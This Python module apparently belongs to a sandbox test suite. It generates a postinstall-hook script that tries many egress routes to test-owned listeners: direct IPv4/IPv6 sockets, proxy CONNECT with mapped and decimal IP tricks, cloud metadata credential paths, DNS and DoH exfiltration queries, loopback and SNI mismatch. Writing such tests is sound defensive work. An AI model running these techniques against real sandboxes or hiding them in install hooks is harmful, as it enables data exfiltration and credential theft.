"""The egress attacks a hostile install script tries, as a standalone Python script.

`attack_script(targets)` returns the source of a stdlib-only script that runs INSIDE the sandbox
(as a postinstall hook), tries every way out it can think of against the addresses the test owns,
and writes what happened to `proof.json` in its working directory's project. It never raises:
each attack records "refused: ...", "error: ...", or "SENT" (a byte left the sandbox: a leak).
"""
from __future__ import annotations

import json

_SCRIPT = r'''
import json, os, socket, ssl, sys

T = json.loads(%(targets)r)
proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or ""
proxy_host, _, proxy_port = proxy.rpartition("/")[2].rpartition(":")
results = {}


def direct(name, family, addr, payload=b"SBOX-LEAK direct\n"):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(addr)
        s.sendall(payload)
        s.close()
        results[name] = "SENT"
    except OSError as e:
        results[name] = "error: %%s" %% e


def via_proxy(name, target, then=b"SBOX-LEAK via proxy\n"):
    if not proxy:
        results[name] = "error: no proxy configured"
        return
    try:
        s = socket.create_connection((proxy_host, int(proxy_port)), timeout=5)
        s.sendall(("CONNECT %%s HTTP/1.1\r\nHost: %%s\r\n\r\n" %% (target, target)).encode())
        head = s.recv(4096).decode("latin-1")
        status = head.split(" ", 2)[1] if " " in head else "?"
        if status != "200":
            results[name] = "refused: %%s" %% head.splitlines()[0] if head else "refused: closed"
            return
        s.sendall(then)
        s.settimeout(3)
        try:
            closed = s.recv(100) == b""  # the proxy hung up on what we sent (e.g. a wrong SNI)
        except OSError:
            closed = False  # still open: the bytes went through to the far end
        results[name] = "refused: closed after the first bytes" if closed else "SENT"
        s.close()
    except OSError as e:
        results[name] = "error: %%s" %% e


def proxy_get(name, url):
    if not proxy:
        results[name] = "error: no proxy configured"
        return
    try:
        s = socket.create_connection((proxy_host, int(proxy_port)), timeout=5)
        host = url.split("/")[2]
        s.sendall(("GET %%s HTTP/1.1\r\nHost: %%s\r\nConnection: close\r\n\r\n" %% (url, host)).encode())
        head = s.recv(4096).decode("latin-1")
        status = head.split(" ", 2)[1] if " " in head else "?"
        results[name] = ("refused: %%s" %% head.splitlines()[0]) if status != "200" else "SENT"
    except OSError as e:
        results[name] = "error: %%s" %% e


def client_hello(server_name):
    ctx = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=server_name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def dns_query(name):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00\x00\x01\x00\x01"


A = T["attacker"]
direct("ipv4-direct", socket.AF_INET, (A["ipv4"], A["port"]))
via_proxy("ipv4-proxy", "%%s:%%d" %% (A["ipv4"], A["port"]))
direct("ipv6-direct", socket.AF_INET6, (A["ipv6"], A["port"]))
via_proxy("ipv6-proxy", "[%%s]:%%d" %% (A["ipv6"], A["port"]))
via_proxy("v4mapped-proxy", "[::ffff:%%s]:%%d" %% (A["ipv4"], A["port"]))
via_proxy("decimal-ip-proxy", "%%d:%%d" %% (int.from_bytes(socket.inet_aton(A["ipv4"]), "big"), A["port"]))
M = T["metadata"]
direct("metadata-direct", socket.AF_INET, (M["ip"], M["port"]), b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")
proxy_get("metadata-proxy", "http://%%s/latest/meta-data/iam/" %% M["ip"])
D = T["dns"]
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(dns_query("SBOX-LEAK.exfil.example"), (D["ip"], D["port"]))
    results["dns-udp-direct"] = "SENT"
except OSError as e:
    results["dns-udp-direct"] = "error: %%s" %% e
direct("dns-tcp-direct", socket.AF_INET, (D["ip"], D["port"]), dns_query("SBOX-LEAK.exfil.example"))
via_proxy("dns-tcp-proxy", "%%s:%%d" %% (D["ip"], D["port"]), dns_query("SBOX-LEAK.exfil.example"))
H = T["doh"]
direct("doh-direct", socket.AF_INET, (H["ip"], H["port"]), client_hello("dns.example"))
via_proxy("doh-proxy", "%%s:%%d" %% (H["ip"], H["port"]), client_hello("dns.example"))
via_proxy("doh-by-name-proxy", "dns.example:443", client_hello("dns.example"))
L = T["loopback"]
direct("host-loopback-direct", socket.AF_INET, ("127.0.0.1", L["port"]))
via_proxy("host-loopback-proxy", "127.0.0.1:%%d" %% L["port"])
via_proxy("localhost-proxy", "localhost:%%d" %% L["port"])
E = T["unlisted"]
via_proxy("unlisted-name-proxy", "%%s:%%d" %% (E["name"], E["port"]), client_hello(E["name"]))
direct("unlisted-name-direct", socket.AF_INET, (E["name"], E["port"]))
S = T["sni"]
via_proxy("sni-mismatch-proxy", "%%s:%%d" %% (S["name"], S["port"]), client_hello(S["fake_sni"]))

with open(T["proof"], "w") as f:
    json.dump(results, f, indent=1)
print("SBOX-ATTACKS", json.dumps(results), file=sys.stderr)
'''


def attack_script(targets: dict[str, object]) -> str:
    """Source of the attack script; `targets` says where each listener is (see egress_scenario)."""
    return _SCRIPT % {"targets": json.dumps(targets)}
